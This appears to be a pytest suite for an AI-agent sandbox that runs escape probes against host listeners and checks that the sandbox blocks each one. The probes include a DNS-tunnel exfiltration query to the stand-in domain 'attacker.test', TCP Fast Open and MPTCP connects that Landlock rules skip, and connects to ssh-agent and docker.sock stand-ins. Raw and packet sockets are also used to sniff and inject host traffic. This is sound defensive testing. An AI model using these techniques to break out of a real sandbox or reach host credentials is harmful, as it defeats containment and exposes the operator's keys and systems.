"""Reaching the host's network without the proxy: every socket an agent can open by itself.

The sandbox's network namespace has only `lo`, so its 127.0.0.1 is not the host's; there is no route and
no resolver. Each attack targets a real listener of the host that this test started (TCP v4/v6, UDP, unix
sockets), runs bare first (it must reach the listener, or it proves nothing), then under `guard run`, and
is judged by what arrived at the listener, not only by what the agent printed.
"""

from __future__ import annotations

import contextlib
import errno
import os
import socket
import subprocess
import tempfile
import threading
import time
from pathlib import Path

import pytest
from support import network_escape

pytestmark = pytest.mark.timeout(120)


H = network_escape
ROOT = os.geteuid() == 0

# Connect with a given socket type, print what the listener said or the errno's name.
PROBE = r"""
import errno, os, socket, sys
family = {"inet": socket.AF_INET, "inet6": socket.AF_INET6, "unix": socket.AF_UNIX}[os.environ["FAMILY"]]
proto = int(os.environ.get("PROTO", "0"))
addr = os.environ["ADDR"]
target = addr.replace("@", "\0", 1) if family == socket.AF_UNIX else (addr, int(os.environ["PORT"]))
s = socket.socket(family, socket.SOCK_STREAM, proto)
try:
    if os.environ.get("FASTOPEN"):  # blocking: a timeout would make the implicit connect EINPROGRESS
        s.sendto(os.environ["PAYLOAD"].encode(), socket.MSG_FASTOPEN, target)
        s.settimeout(5)
    else:
        s.settimeout(5)
        s.connect(target)
        s.sendall(os.environ.get("PAYLOAD", "").encode())
    print("GOT", s.recv(200).decode(errors="replace").strip())
except OSError as e:
    print("ERR", errno.errorcode.get(e.errno, str(e)) if e.errno else type(e).__name__)
"""


def _probe(world, sink, *, family="inet", addr=None, proto=0, payload="", fastopen=False, extra_env=None):
    """Run PROBE bare and guarded against `sink`; return (bare, guarded) runs and sink state per run."""
    env = {"FAMILY": family, "PROTO": str(proto), "PAYLOAD": payload, **(extra_env or {})}
    if family == "unix":
        env["ADDR"] = addr if addr is not None else sink.address
    else:
        env["ADDR"], env["PORT"] = addr or sink.address[0], str(sink.port)
    if fastopen:
        env["FASTOPEN"] = "1"
    bare = world.bare_run(world.py(PROBE), env=env)
    assert bare.stdout.startswith("GOT " + sink.token), bare
    accepted = sink.accepted
    run = world.guard_run(world.py(PROBE), env=env)
    assert run.summary is not None, run
    assert sink.token not in run.stdout and sink.token not in run.stderr, run
    time.sleep(0.2)  # a connection that did get through is accepted within this; none may be
    assert sink.accepted == accepted, f"the host listener accepted a sandboxed connection: {run!r}"
    return bare, run


def test_tcp_to_host_loopback_server(world):
    sink = H.StreamSink(socket.AF_INET, ("127.0.0.1", 0))
    with H.serving(sink):
        _, run = _probe(world, sink)
    assert run.stdout.strip() == "ERR ECONNREFUSED", run  # the sandbox's own loopback answers


def test_tcp_to_another_loopback_ip_literal(world):
    """127.0.0.2 is the host's too (all of 127/8 is loopback there); inside it is the sandbox's."""
    sink = H.StreamSink(socket.AF_INET, ("127.0.0.2", 0))
    with H.serving(sink):
        _, run = _probe(world, sink)
    assert run.stdout.strip() == "ERR ECONNREFUSED", run


def test_tcp_to_ipv4_mapped_ipv6_literal_of_host_loopback(world):
    sink = H.StreamSink(socket.AF_INET6, ("::ffff:127.0.0.1", 0))
    with H.serving(sink):
        _, run = _probe(world, sink, family="inet6", addr="::ffff:127.0.0.1")
    assert run.stdout.strip() == "ERR ECONNREFUSED", run


def test_tcp_to_host_ipv6_loopback_server(world):
    try:
        sink = H.StreamSink(socket.AF_INET6, ("::1", 0))
    except OSError as exc:
        pytest.skip(f"no IPv6 loopback on this host: {exc}")
    with H.serving(sink):
        _, run = _probe(world, sink, family="inet6")
    assert run.stdout.strip() in ("ERR ECONNREFUSED", "ERR EADDRNOTAVAIL", "ERR ENETUNREACH"), run


def _private_resolver() -> str:
    """The host's own resolver when it lives on a private address (it usually does), else a private IP."""
    import ipaddress

    with contextlib.suppress(OSError):
        for line in Path("/etc/resolv.conf").read_text().splitlines():
            parts = line.split()
            if len(parts) >= 2 and parts[0] == "nameserver":
                with contextlib.suppress(ValueError):
                    ip = ipaddress.ip_address(parts[1])
                    if ip.version == 4 and ip.is_private and not ip.is_loopback:
                        return str(ip)
    return "10.0.0.1"


def test_tcp_to_private_ip_has_no_route(world):
    """The host routes a private address (its resolver, or the default route); the sandbox has no route at
    all, so the connect fails at once instead of leaving the machine."""
    target = _private_resolver()
    probe = ("import errno, socket\ns = socket.socket(); s.settimeout(3)\n"
             f"try:\n    s.connect(({target!r}, 53)); print('CONNECTED')\n"
             "except OSError as e:\n    print('ERR', errno.errorcode.get(e.errno, 'timeout') if e.errno else 'timeout')\n")
    bare = world.bare_run(world.py(probe))
    assert bare.stdout.strip() != "ERR ENETUNREACH", f"the host itself has no route to {target}: {bare!r}"
    run = world.guard_run(world.py(probe))
    assert run.stdout.strip() == "ERR ENETUNREACH", run


UDP_ATTACK = r"""
import errno, os, socket
def send(host, port, data):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(data, (host, port)); return "sent"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
token = os.environ["MARK"].encode()
# a DNS query whose name carries the secret, as an exfiltrating agent would send it
qname = b"".join(bytes([len(l)]) + l for l in [token.lower(), b"attacker", b"test"]) + b"\0"
query = b"\x13\x37\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + qname + b"\x00\x01\x00\x01"
print("loopback", send("127.0.0.1", int(os.environ["PORT"]), query))
print("resolver", send(os.environ["RESOLVER"], 53, query))
try:
    socket.getaddrinfo(token.decode().lower() + ".attacker.test", 443); print("lookup resolved")
except OSError as e:
    print("lookup", type(e).__name__)
"""


def test_udp_and_dns_queries_do_not_leave(world):
    sink = H.UdpSink()
    resolver = _private_resolver()
    with H.serving(sink):
        bare = world.bare_run(world.py(UDP_ATTACK), env={"MARK": "bare-x1", "PORT": str(sink.port),
                                                          "RESOLVER": resolver})
        assert "loopback sent" in bare.stdout, bare
        assert world.wait_until(lambda: any(b"bare-x1" in d for d in sink.received), timeout=5), bare
        run = world.guard_run(world.py(UDP_ATTACK), env={"MARK": "guarded-x1", "PORT": str(sink.port),
                                                          "RESOLVER": resolver})
        time.sleep(0.3)
        assert not any(b"guarded-x1" in d for d in sink.received), f"a UDP query reached the host: {run!r}"
    # the send to "127.0.0.1" lands on the sandbox's own loopback; the resolver is unreachable
    assert "resolver ENETUNREACH" in run.stdout, run
    assert "lookup gaierror" in run.stdout, run


def test_tcp_fast_open_to_host_loopback(world):
    """sendto(MSG_FASTOPEN) connects and sends in one call; Landlock's TCP port rules never see it here."""
    sink = H.StreamSink(socket.AF_INET, ("127.0.0.1", 0))
    with H.serving(sink):
        bare, run = _probe(world, sink, fastopen=True, payload="TFO-PAYLOAD")
        assert world.wait_until(lambda: any(b"TFO-PAYLOAD" in d for d in sink.received), timeout=5), bare
        count = len(sink.received)
    assert run.stdout.strip() == "ERR ECONNREFUSED", run
    assert len(sink.received) == count


def test_mptcp_to_host_loopback(world):
    """An IPPROTO_MPTCP stream socket (not an IPPROTO_TCP one, so Landlock's TCP rules skip it)."""
    mptcp = getattr(socket, "IPPROTO_MPTCP", 262)
    try:
        socket.socket(socket.AF_INET, socket.SOCK_STREAM, mptcp).close()
    except OSError as exc:
        pytest.skip(f"MPTCP is not available on this host: {exc}")
    sink = H.StreamSink(socket.AF_INET, ("127.0.0.1", 0))
    with H.serving(sink):
        _, run = _probe(world, sink, proto=mptcp)
    assert run.stdout.strip() == "ERR ECONNREFUSED", run


def test_abstract_unix_socket_of_host(world):
    """Abstract names belong to a network namespace (and Landlock scopes them): the host's is unreachable."""
    name = "\0guard-escape-" + os.urandom(6).hex()
    sink = H.StreamSink(socket.AF_UNIX, name)
    with H.serving(sink):
        _, run = _probe(world, sink, family="unix", addr="@" + name[1:])
    assert run.stdout.strip() in ("ERR ECONNREFUSED", "ERR EPERM"), run


def test_vsock_to_the_hypervisor_host(world):
    """vsock is not confined by a network namespace: from a VM (or WSL2) it reaches the host's services
    around the proxy. The sandbox cannot make such a socket at all. Nothing is sent to the host: making
    the socket is the step refused."""
    if not hasattr(socket, "AF_VSOCK"):
        pytest.skip("this Python has no AF_VSOCK")
    probe = world.py("import socket\ntry:\n    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()\n"
                     "    print('MADE')\nexcept OSError as exc:\n    print('ERR', exc.errno)")
    bare = world.bare_run(probe)
    if "MADE" not in bare.stdout:
        pytest.skip(f"vsock sockets cannot be made here even bare ({bare.stdout.strip()})")
    run = world.guard_run(probe)
    assert run.stdout.strip() == f"ERR {errno.EAFNOSUPPORT}", run


def test_ssh_agent_socket_in_home_ssh(world):
    """An ssh-agent stand-in at ~/.ssh/agent.sock (credentials are hidden in the sandbox)."""
    path = world.home / ".ssh" / "agent.sock"
    sink = H.StreamSink(socket.AF_UNIX, str(path))
    with H.serving(sink):
        _, run = _probe(world, sink, family="unix", payload="ssh-agent: request identities")
    assert run.stdout.strip() in ("ERR ENOENT", "ERR EACCES", "ERR ECONNREFUSED", "ERR EPERM"), run


def test_ssh_agent_socket_at_openssh_default_location(world):
    """ssh-agent's own default: /tmp/ssh-XXXXXXXXXX/agent.<pid>, handed to every program as SSH_AUTH_SOCK.

    Whoever can connect to it can sign as the engineer with every loaded key, without reading one, so
    reaching it is reaching the credentials that coding-agent's `credentials` rule keeps out.
    """
    agent_dir = Path(tempfile.mkdtemp(prefix="ssh-", dir="/tmp"))
    agent_dir.chmod(0o700)
    path = agent_dir / f"agent.{os.getpid()}"
    sink = H.StreamSink(socket.AF_UNIX, str(path))
    try:
        with H.serving(sink):
            _, run = _probe(world, sink, family="unix", payload="ssh-agent: request identities",
                            extra_env={"SSH_AUTH_SOCK": str(path)})
    finally:
        with contextlib.suppress(OSError):
            agent_dir.rmdir()
    assert run.stdout.strip() in ("ERR ENOENT", "ERR EACCES", "ERR ECONNREFUSED", "ERR EPERM"), run


def _run_dir() -> Path:
    for cand in ("/run/user", "/run/lock", "/dev/shm"):
        if os.access(cand, os.W_OK | os.X_OK):
            return Path(tempfile.mkdtemp(prefix="guard-escape-", dir=cand))
    pytest.skip("no writable directory under /run or /dev/shm for a docker.sock stand-in")


def test_docker_socket_under_run(world):
    """A docker.sock stand-in under /run, where the real ones live (/run/docker.sock, rootless docker's
    /run/user/UID/docker.sock). No rule grants /run; talking to dockerd is root on the host."""
    run_dir = _run_dir()
    path = run_dir / "docker.sock"
    sink = H.StreamSink(socket.AF_UNIX, str(path))
    try:
        with H.serving(sink):
            _, run = _probe(world, sink, family="unix", payload="GET /containers/json HTTP/1.0\r\n\r\n")
    finally:
        with contextlib.suppress(OSError):
            run_dir.rmdir()
    assert run.stdout.strip() in ("ERR ENOENT", "ERR EACCES", "ERR ECONNREFUSED", "ERR EPERM"), run


RAW_ATTACK = r"""
import errno, os, socket, struct, sys, time
token = os.environ["MARK"].encode()
try:
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
except OSError as e:
    sniff = None
    print("packet", errno.errorcode.get(e.errno, str(e)))
try:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    payload = b"RAW-" + token
    header = struct.pack(">HHHH", 40000, int(os.environ["PORT"]), 8 + len(payload), 0)
    raw.sendto(header + payload, ("127.0.0.1", 0))
    print("raw sent")
except OSError as e:
    print("raw", errno.errorcode.get(e.errno, str(e)))
print("READY", flush=True)
if sniff is not None:
    sniff.settimeout(0.2)
    deadline = time.monotonic() + float(os.environ["LISTEN_S"])
    seen = False
    while time.monotonic() < deadline and not seen:
        try:
            seen = b"HOSTTRAFFIC-" + token in sniff.recv(65535)
        except socket.timeout:
            pass
    print("sniffed host traffic" if seen else "sniffed nothing")
"""


def _raw_run(argv, env, cwd, sink_port, token):
    """Run the raw-socket attack while the host sends tagged datagrams over its own loopback."""
    proc = subprocess.Popen(argv, env=env, cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            stdin=subprocess.DEVNULL)
    done = threading.Event()

    def chatter():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            while not done.is_set():
                s.sendto(b"HOSTTRAFFIC-" + token.encode(), ("127.0.0.1", sink_port))
                time.sleep(0.05)

    t = threading.Thread(target=chatter, daemon=True)
    t.start()
    try:
        out, err = proc.communicate(timeout=60)
    finally:
        done.set()
        t.join()
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    return out, err


def test_raw_and_packet_sockets_see_and_send_no_host_traffic(world):
    sink = H.UdpSink()
    with H.serving(sink):
        env = {**world.env, "PORT": str(sink.port), "LISTEN_S": "1.5"}
        if ROOT:  # the bare control needs CAP_NET_RAW on the host
            out, err = _raw_run(world.py(RAW_ATTACK), {**env, "MARK": "bare-r1"}, world.ws, sink.port, "bare-r1")
            assert "sniffed host traffic" in out and "raw sent" in out, (out, err)
            assert world.wait_until(lambda: any(b"RAW-bare-r1" in d for d in sink.received), timeout=5)
        argv = world.guard_run_argv(world.py(RAW_ATTACK))
        out, err = _raw_run(argv, {**env, "MARK": "guard-r1"}, world.ws, sink.port, "guard-r1")
        time.sleep(0.2)
    assert "READY" in out, (out, err)
    assert "sniffed host traffic" not in out, (out, err)
    assert not any(b"RAW-guard-r1" in d for d in sink.received), (out, err)
    # not merely useless: the sandbox refuses both kinds of socket outright (packet sockets are not a
    # family the filter lets be made; raw ones need a capability the sandbox has not)
    assert "packet EAFNOSUPPORT" in out and "raw EPERM" in out, (out, err)
